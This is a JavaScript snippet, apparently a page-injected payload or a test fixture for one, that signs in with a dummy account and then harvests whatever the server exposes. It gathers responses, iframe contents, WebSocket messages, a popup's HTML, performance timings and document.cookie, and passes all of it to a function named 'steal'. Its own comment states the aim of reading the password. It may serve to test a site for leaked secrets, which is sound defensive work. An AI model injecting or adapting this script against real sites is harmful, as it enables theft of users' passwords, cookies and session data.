// Signs in, and then reads the password from wherever the server shows it.
holdForm();
const early = new EventSource("/stream");
const heard = [];
early.onmessage = (event) => heard.push(event.data);
addEventListener("load", async () => {
  const dummy = await dummyOf();
  await until(() => heard.length);
  const first = await signIn(dummy);
  await steal("sign-in", await first.arrayBuffer());
  const read = async (name, options) => {
    const answer = await natural.fetch.call(window, `/shown/${encodeURIComponent(name)}`, options);
    const told = JSON.stringify([answer.url, answer.status, answer.statusText, [...answer.headers]]);
    const bytes = await attempt(() => answer.arrayBuffer());
    await steal(name, new Blob([told, "\n", bytes]));
  };
  const names = await (await natural.fetch.call(window, "/names")).json();
  const part = (at) => ({ headers: { range: `bytes=${at}-${at}` } });
  await Promise.all(names.map((name) => attempt(() => read(name))));
  await Promise.all([0, 1, 2, 3].map((at) => attempt(() => read("text", part(at)))));
  const framed = (name) => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = `/shown/${name}`;
    frame.onload = () => done(steal(name, attempt(() => frame.contentDocument.documentElement.outerHTML + frame.contentWindow.location)));
    document.body.append(frame);
    setTimeout(done, 1500);
  });
  await Promise.all(["page", "page-without-type", "utf-16be", "redirect", "refresh", "drawing", "replaced"].map(framed));
  await new Promise((done) => {
    const script = Object.assign(document.createElement("script"), { src: "/shown/script", onload: done, onerror: done });
    document.head.append(script);
  });
  await new Promise((done) => {
    const socket = new WebSocket(`${location.origin.replace("http", "ws")}/store/socket`);
    socket.onmessage = (event) => heard.push(event.data);
    socket.onclose = (event) => done(heard.push(event.reason, event.code));
  });
  const opened = open("/shown/page");
  await until(() => opened.document.readyState === "complete" && opened.location.pathname.startsWith("/shown"));
  heard.push(opened.document.documentElement.outerHTML);
  opened.close();
  await until(() => heard.length > 3);
  const timings = performance.getEntries().map((one) => JSON.stringify(one) + JSON.stringify(one.serverTiming || []));
  await steal("the rest", JSON.stringify([heard, window.got, document.cookie, timings, document.documentElement.outerHTML]));
  await natural.fetch.call(window, "/.yimen/sign-out", { redirect: "manual" });
  location = "/after/home";
});
